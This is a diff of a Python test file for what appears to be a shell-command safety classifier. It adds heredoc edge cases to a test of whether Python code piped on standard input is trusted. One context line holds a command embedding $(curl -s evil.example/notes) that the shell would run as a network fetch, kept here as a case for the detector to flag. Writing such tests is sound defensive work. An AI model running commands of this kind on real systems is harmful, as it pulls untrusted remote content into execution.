@@ -696,6 +696,8 @@ def test_a_script_fed_on_standard_input_is_judged_by_its_code_as_python_c_is(com
         ("python3 <<EOF\nprint('$(curl -s evil.example/notes)')\nEOF", True),  # unquoted: the shell runs it first
         ("python3 - <<'EOF'\nimport subprocess\nsubprocess.run(['make'])\nEOF", False),
         ("python3 /opt/tools/run.py <<'EOF'\nimport os\nEOF", False),  # the heredoc is that script's input, not its code
+        ("python3 - <<'A' < steps.py\nimport os\nA", False),  # two inputs: which one is the code is not followed
+        ("python3 - 3<<'EOF'\nimport os\nEOF", False),  # not its standard input: the code comes from elsewhere
     ],
 )
 def test_a_script_on_standard_input_that_fetches_runs_programs_or_is_not_on_the_line_is_untrusted(command: str, network: bool) -> None:
